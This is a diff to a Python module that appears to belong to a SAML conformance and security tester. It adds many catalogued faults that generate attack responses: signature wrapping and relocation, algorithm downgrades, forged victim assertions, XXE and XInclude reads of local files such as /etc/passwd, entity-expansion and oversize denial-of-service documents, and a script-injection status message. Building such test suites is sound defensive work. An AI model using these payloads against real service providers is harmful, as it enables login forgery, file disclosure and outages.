@@ -956,7 +956,7 @@ def _xxe(general: bool) -> Fault:
 
 # ----------------------------------------------------------------------------- ENC
 @register_factory("encrypted-assertion", "Assertion encrypted to the SP's encryption cert (EncryptedAssertion)",
-                  ("POS-05", "SAML Core 6.2", "SAML2Int SDP-ALG01"), block="aes256-gcm", key_transport="rsa-oaep")
+                  ("POS-05", "ENC-06", "SAML Core 6.2", "SAML2Int SDP-ALG01"), block="aes256-gcm", key_transport="rsa-oaep")
 def _encrypted(block: str, key_transport: str) -> Fault:
     def signing(s: SigningOptions, ctx: FaultContext) -> None:
         s.encrypt = True
@@ -973,3 +973,457 @@ def _enc_unsigned(block: str) -> Fault:
         s.encryption = {**s.encryption, "block": block}
 
     return Fault("", "", signing=signing)
+
+
+# ============================================================================= more catalogue faults
+# ----------------------------------------------------------------------------- SIG: shape of the signature
+def _asig(root: etree._Element) -> etree._Element:
+    s = _sig(_assertion(root))
+    if s is None:
+        raise ValueError("the Assertion is not signed")
+    return s
+
+
+@register_factory("sig-reference-uri",
+                  "The Assertion signature's Reference URI rewritten after signing (\"#\", \"#xpointer(/)\", an absolute URL, \"\"; "
+                  "\"oob\" = a loopback URL the IdP watches)",
+                  ("SIG-13", "SIG-14", "XML-11", "SAML Core 5.4.2"), uri="#xpointer(/)")
+def _ref_uri(uri: str) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        u = uri
+        if u == "oob":
+            u = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "reference")
+            ctx.notes["oob_url"] = u
+        _iter_tag(_asig(root), q(DS, "Reference"))[0].set("URI", u)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _detached(root: etree._Element, ctx: FaultContext) -> None:
+    a = _assertion(root)
+    s = _asig(root)
+    a.remove(s)
+    a.addnext(s)
+
+
+register(Fault("sig-detached", "The Assertion's (valid) signature moved out of it, next to it in the Response (detached)",
+               ("SIG-15", "SAML Core 5.4.1"), signing=_assertion_signed(), signed=_detached))
+
+
+def _misplaced(root: etree._Element, ctx: FaultContext) -> None:
+    a = _assertion(root)
+    s = _asig(root)
+    a.remove(s)
+    a.find(q(SAML, "Subject")).addnext(s)
+
+
+register(Fault("sig-wrong-position", "The Assertion's (still valid) signature moved after Subject (schema wants it after Issuer)",
+               ("SIG-16", "CVE-2021-21238"), signing=_assertion_signed(), signed=_misplaced))
+
+
+def _dup_sig(root: etree._Element, ctx: FaultContext) -> None:
+    s = _asig(root)
+    bad = copy.deepcopy(s)
+    _flip_sigvalue(bad, ctx)
+    s.addprevious(bad)
+
+
+register(Fault("sig-duplicate", "Two ds:Signature elements in the Assertion: a broken copy first, the valid one second",
+               ("SIG-17", "CVE-2021-21238"), signing=_assertion_signed(), signed=_dup_sig))
+
+
+@register_factory("signature-method", "SignatureMethod Algorithm relabelled after signing (MD5, DSA-SHA1, HMAC, unknown)",
+                  ("ALG-01", "ALG-04", "ALG-05", "ALG-06"), uri="http://www.w3.org/2001/04/xmldsig-more#rsa-md5")
+def _sigmethod(uri: str) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        _iter_tag(_asig(root), q(DS, "SignatureMethod"))[0].set("Algorithm", uri)
+        if uri.endswith("hmac-sha1"):
+            sm = _iter_tag(_asig(root), q(DS, "SignatureMethod"))[0]
+            etree.SubElement(sm, q(DS, "HMACOutputLength")).text = "8"
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+@register_factory("canonicalization", "CanonicalizationMethod of the Assertion signature relabelled (inclusive c14n 1.1, ...)",
+                  ("ALG-07",), uri="http://www.w3.org/2006/12/xml-c14n11")
+def _c14n(uri: str) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        _iter_tag(_asig(root), q(DS, "CanonicalizationMethod"))[0].set("Algorithm", uri)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+@register_factory("transforms", "Reference Transforms changed: none, three, or without enveloped-signature",
+                  ("ALG-08", "CVE-2020-5390"), mode="none")
+def _transforms(mode: str) -> Fault:
+    if mode not in ("none", "three", "no-enveloped"):
+        raise ValueError("transforms mode must be none, three or no-enveloped")
+
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        ts = _iter_tag(_asig(root), q(DS, "Transforms"))[0]
+        if mode == "none":
+            ts.getparent().remove(ts)
+        elif mode == "three":
+            etree.SubElement(ts, q(DS, "Transform"), Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
+        else:
+            ts.remove(ts[0])
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _two_certs(s: SigningOptions, ctx: FaultContext) -> None:
+    s.key = ctx.idp.attacker_key
+    s.key_info = "x509"
+    ctx.notes["two_certs"] = True
+
+
+def _add_genuine_first(root: etree._Element, ctx: FaultContext) -> None:
+    for sig in _iter_tag(root, q(DS, "Signature")):
+        x509d = _iter_tag(sig, q(DS, "X509Data"))[0]
+        genuine = etree.Element(q(DS, "X509Certificate"))
+        genuine.text = ctx.idp.key.cert_b64
+        x509d.insert(0, genuine)
+
+
+register(Fault("key-two-certs", "KeyInfo holds the genuine IdP cert first and the attacker's second; signed by the attacker",
+               ("KEY-05",), signing=_two_certs, signed=_add_genuine_first))
+
+
+def _retrieval(root: etree._Element, ctx: FaultContext) -> None:
+    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "retrieval")
+    ctx.notes["oob_url"] = url
+    for ki in _iter_tag(root, q(DS, "KeyInfo")):
+        for c in list(ki):
+            ki.remove(c)
+        etree.SubElement(ki, q(DS, "RetrievalMethod"), URI=url,
+                         Type="http://www.w3.org/2000/09/xmldsig#X509Data")
+
+
+register(Fault("retrieval-method", "KeyInfo replaced by a RetrievalMethod pointing at a loopback URL the IdP watches",
+               ("XML-12",), signed=_retrieval))
+
+
+# ----------------------------------------------------------------------------- XSW: more wrappings
+def _xsw_response_in_response(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> etree._Element:
+        outer = copy.deepcopy(root)
+        for s in _iter_tag(outer, q(DS, "Signature")):
+            s.getparent().remove(s)
+        outer.set("ID", new_id())
+        a = outer.find(q(SAML, "Assertion"))
+        if a is not None:
+            a.set("ID", new_id())
+            _victimize(a, victim)
+        outer.append(root)
+        return outer
+
+    return Fault("", "", signed=signed)
+
+
+register_factory("xsw-response-in-response",
+                 "An unsigned attacker Response (new IDs) wrapping the valid signed Response as its last child",
+                 ("XSW-10", "pysaml2 signed-xsw-response-in-response"), victim=None)(_xsw_response_in_response)
+
+
+def _xsw_wrapper(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        evil = _drop_sig(copy.deepcopy(a))
+        _victimize(evil, victim)
+        wrapper = etree.Element("{urn:samlconf:decoy}Wrapper", nsmap={"decoy": "urn:samlconf:decoy"})
+        a.addprevious(evil)
+        root.remove(a)
+        wrapper.append(a)
+        evil.addnext(wrapper)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+register_factory("xsw-wrapper",
+                 "The signed Assertion moved into an unknown wrapper element; an unsigned copy (same ID) is the direct child",
+                 ("XSW-12",), victim=None)(_xsw_wrapper)
+
+
+@register_factory("advice-assertion", "The signed Assertion carries, in saml:Advice, an unsigned Assertion for a victim",
+                  ("XSW-17",), victim="victim@example.com")
+def _advice(victim: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        inner = copy.deepcopy(a)
+        inner.set("ID", new_id())
+        _victimize(inner, victim)
+        advice = etree.Element(q(SAML, "Advice"))
+        advice.append(inner)
+        a.find(q(SAML, "Conditions")).addnext(advice)
+
+    return Fault("", "", tree=tree)
+
+
+# ----------------------------------------------------------------------------- CMT-06
+@register_factory("comment-in-value", "Audience or Issuer text followed by a comment and a suffix (signed: the full text is value+suffix)",
+                  ("CMT-06",), where="audience", suffix=".evil.example")
+def _comment_in(where: str, suffix: str) -> Fault:
+    if where not in ("audience", "issuer"):
+        raise ValueError("where must be audience or issuer")
+
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        els = [_conditions(root).find(f"{q(SAML, 'AudienceRestriction')}/{q(SAML, 'Audience')}")] if where == "audience" \
+            else [root.find(q(SAML, "Issuer")), _assertion(root).find(q(SAML, "Issuer"))]
+        for el in els:
+            c = etree.Comment("")
+            c.tail = suffix
+            el.append(c)
+
+    return Fault("", "", tree=tree)
+
+
+# ----------------------------------------------------------------------------- XML: more entity / parser tricks
+@register_factory("dtd-billion-laughs", "Nested internal entities (10 per level) referenced in an AttributeValue",
+                  ("XML-05", "CVE-2016-10149"), levels=9)
+def _laughs(levels: int) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        ents = ['<!ENTITY lol0 "lol">'] + [
+            f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, int(levels) + 1)
+        ]
+        xml = xml.replace(b"</saml:AttributeValue>", f"&lol{int(levels)};</saml:AttributeValue>".encode(), 1)
+        return _doctype(xml, ("<!DOCTYPE samlp:Response [" + "".join(ents) + "]>").encode())
+
+    return Fault("", "", bytes_=b)
+
+
+@register_factory("xxe-file", "External general entity SYSTEM file:// referenced in NameID (file disclosure)",
+                  ("XML-03",), path="/etc/hostname")
+def _xxe_file(path: str) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
+        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file://{path}">]>'.encode())
+
+    return Fault("", "", bytes_=b)
+
+
+@register_factory("xinclude", "An xi:include of a local file inside the first AttributeValue (after signing)",
+                  ("XML-07",), href="file:///etc/passwd")
+def _xinclude(href: str) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        av = next(_assertion(root).iter(q(SAML, "AttributeValue")))
+        etree.SubElement(av, "{http://www.w3.org/2001/XInclude}include", href=href, parse="text",
+                         nsmap={"xi": "http://www.w3.org/2001/XInclude"})
+
+    return Fault("", "", signed=signed)
+
+
+@register_factory("oversize", "The document padded with a comment after the root to N bytes (signatures unaffected)",
+                  ("XML-13", "CVE-2025-54572"), size=20_000_000)
+def _oversize(size: int) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        pad = max(0, int(size) - len(xml) - 8)
+        return xml + b"\n<!--" + b"x" * pad + b"-->"
+
+    return Fault("", "", bytes_=b)
+
+
+@register_factory("deep-nesting", "N nested elements inserted at the end of the Response (parser depth limits)",
+                  ("XML-14",), depth=100_000)
+def _deep(depth: int) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        n = int(depth)
+        return xml.replace(b"</samlp:Response>", b"<x>" * n + b"</x>" * n + b"</samlp:Response>")
+
+    return Fault("", "", bytes_=b)
+
+
+def _utf16(xml: bytes, ctx: FaultContext) -> bytes:
+    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
+    return ("<?xml version='1.0' encoding='UTF-16'?>" + body.decode("utf-8")).encode("utf-16")
+
+
+register(Fault("encoding-utf16", "The whole document in UTF-16 with a BOM (same content; signatures still valid)",
+               ("XML-15",), bytes_=_utf16, stage_override="pre-sign"))
+
+
+# ----------------------------------------------------------------------------- STA / MAS
+def _no_status(root: etree._Element, ctx: FaultContext) -> None:
+    root.remove(root.find(q(SAMLP, "Status")))
+
+
+register(Fault("status-missing", "Response without samlp:Status", ("STA-03",), tree=_no_status))
+
+
+@register_factory("status-message", "A StatusMessage with the given text (markup for reflection checks) on a Success response",
+                  ("STA-05",), message="<script>alert(1)</script>")
+def _status_message(message: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, status_message=message))
+
+
+@register_factory("status-top-level", "An illegal top-level StatusCode (a second-level code or an unknown URI) with the assertion",
+                  ("STA-04",), code=STATUS_AUTHN_FAILED)
+def _status_top(code: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, status_code=code, include_assertion=True))
+
+
+@register_factory("assertion-and-encrypted", "A plaintext unsigned (forged) Assertion next to the genuine EncryptedAssertion",
+                  ("MAS-03",), victim="victim@example.com")
+def _plain_and_enc(victim: str) -> Fault:
+    def signing(s: SigningOptions, ctx: FaultContext) -> None:
+        s.encrypt = True
+        s.sign_response = False
+
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        forged = copy.deepcopy(_assertion(root))
+        forged.set("ID", new_id())
+        _victimize(forged, victim)
+        ctx.notes["forged_assertion"] = forged
+
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        root.append(ctx.notes.pop("forged_assertion"))
+
+    return Fault("", "", signing=signing, tree=tree, signed=signed)
+
+
+def _two_authn(root: etree._Element, ctx: FaultContext) -> None:
+    st = _assertion(root).find(q(SAML, "AuthnStatement"))
+    st2 = copy.deepcopy(st)
+    st2.set("SessionIndex", st.get("SessionIndex") + "_2")
+    st2.find(f"{q(SAML, 'AuthnContext')}/{q(SAML, 'AuthnContextClassRef')}").text = \
+        "urn:oasis:names:tc:SAML:2.0:ac:classes:unspecified"
+    st.addnext(st2)
+
+
+register(Fault("two-authn-statements", "Two AuthnStatements with different SessionIndex and AuthnContext", ("MAS-05",),
+               tree=_two_authn))
+
+
+@register_factory("authn-context", "AuthnContextClassRef set to the given class (weaker than requested, ...)",
+                  ("MAS-07",), cls="urn:oasis:names:tc:SAML:2.0:ac:classes:Password")
+def _authn_ctx(cls: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, authn_context=cls))
+
+
+# ----------------------------------------------------------------------------- ENC
+@register_factory("encrypted-wrong-key", "EncryptedAssertion encrypted to an attacker certificate (the SP cannot decrypt)",
+                  ("ENC-04",), block="aes256-gcm")
+def _enc_wrong(block: str) -> Fault:
+    def signing(s: SigningOptions, ctx: FaultContext) -> None:
+        s.encrypt = True
+        s.encryption = {**s.encryption, "block": block, "cert": ctx.idp.attacker_key}
+
+    return Fault("", "", signing=signing)
+
+
+# ----------------------------------------------------------------------------- ATTR
+@register_factory("attr-friendly-name", "An extra Attribute with an OID Name whose FriendlyName is the given name, value 'admin'",
+                  ("ATTR-04",), name="role", value="admin")
+def _friendly(name: str, value: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        st = _assertion(root).find(q(SAML, "AttributeStatement"))
+        at = etree.SubElement(st, q(SAML, "Attribute"), Name="urn:oid:1.3.6.1.4.1.5923.1.1.1.7",
+                              NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri", FriendlyName=name)
+        etree.SubElement(at, q(SAML, "AttributeValue")).text = value
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("attr-complex-value", "One attribute's value is an element (<x>admin</x>) instead of text",
+                  ("ATTR-10",), name=None, value="admin")
+def _complex(name: str | None, value: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        av = _attr_el(root, _pick_attr(ctx.spec, name)).find(q(SAML, "AttributeValue"))
+        av.text = None
+        av.attrib.pop("{http://www.w3.org/2001/XMLSchema-instance}type", None)
+        etree.SubElement(av, "{urn:samlconf:complex}x", nsmap={"c": "urn:samlconf:complex"}).text = value
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("attr-nil", "One attribute's single value is xsi:nil=\"true\"", ("ATTR-11",), name=None)
+def _nil(name: str | None) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        attr = _attr_el(root, _pick_attr(ctx.spec, name))
+        avs = attr.findall(q(SAML, "AttributeValue"))
+        for av in avs[1:]:
+            attr.remove(av)
+        avs[0].text = None
+        avs[0].attrib.pop("{http://www.w3.org/2001/XMLSchema-instance}type", None)
+        avs[0].set("{http://www.w3.org/2001/XMLSchema-instance}nil", "true")
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("attr-many-values", "One attribute with N AttributeValues", ("ATTR-12",), name=None, count=10000)
+def _many(name: str | None, count: int) -> Fault:
+    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [f"v{i}" for i in range(int(count))]), name))
+
+
+# ----------------------------------------------------------------------------- RPL / ISS / TIME / DST
+def _one_time_use(root: etree._Element, ctx: FaultContext) -> None:
+    etree.SubElement(_conditions(root), q(SAML, "OneTimeUse"))
+
+
+register(Fault("one-time-use", "Conditions carry <OneTimeUse/> (replay it to check the SP's cache)", ("RPL-06", "SAML Core 2.5.1.5"),
+               tree=_one_time_use))
+
+
+@register_factory("issuer-format", "Issuer elements carry a Format other than entity", ("ISS-05",),
+                  format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress")
+def _iss_format(format: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        for el in (root.find(q(SAML, "Issuer")), _assertion(root).find(q(SAML, "Issuer"))):
+            el.set("Format", format)
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("issuer-duplicate", "A second Issuer element in the Response (another IdP)", ("ISS-06",),
+                  issuer="https://other-idp.example.com/idp")
+def _iss_dup(issuer: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        el = etree.Element(q(SAML, "Issuer"))
+        el.text = issuer
+        root.find(q(SAML, "Issuer")).addnext(el)
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("timestamp", "Conditions NotOnOrAfter written as the given raw string (offsets, no Z, year 10000, leap second)",
+                  ("TIME-09",), value="2030-01-01T00:00:00+14:00")
+def _timestamp(value: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        _conditions(root).set("NotOnOrAfter", value)
+
+    return Fault("", "", tree=tree)
+
+
+def _unknown_condition(root: etree._Element, ctx: FaultContext) -> None:
+    c = etree.SubElement(_conditions(root), q(SAML, "Condition"), nsmap={"ext": "urn:samlconf:ext"})
+    c.set("{http://www.w3.org/2001/XMLSchema-instance}type", "ext:Foo")
+
+
+register(Fault("condition-unknown", "An unknown <Condition xsi:type=\"ext:Foo\"> inside Conditions", ("TIME-11", "SAML Core 2.5.1"),
+               tree=_unknown_condition))
+
+
+@register_factory("session-lifetime", "AuthnStatement SessionNotOnOrAfter N seconds after issue", ("TIME-12", "SAML Prof 4.1.4.3"),
+                  seconds=120)
+def _session_life(seconds: int) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, session_lifetime=int(seconds)))
+
+
+@register_factory("authn-instant-stale", "AuthnInstant N seconds in the past (stale authentication, e.g. despite ForceAuthn)",
+                  ("TIME-13", "SAML2Int SDP-IDP07"), seconds=8 * 3600)
+def _stale(seconds: int) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, authn_instant=s.now - timedelta(seconds=int(seconds))))
+
+
+@register_factory("scd-mix-and-match",
+                  "Two bearer confirmations: right Recipient but expired, and in time but for another Recipient",
+                  ("DST-08", "SAML Prof 4.1.4.3"), url="https://other-sp.example.com/saml/acs")
+def _mix(url: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        scd = _scd(root)
+        sc = scd.getparent()
+        sc2 = copy.deepcopy(sc)
+        scd.set("NotOnOrAfter", xml_time(ctx.spec.now - timedelta(seconds=600)))
+        next(sc2.iter(q(SAML, "SubjectConfirmationData"))).set("Recipient", url)
+        sc.addnext(sc2)
+
+    return Fault("", "", tree=tree)
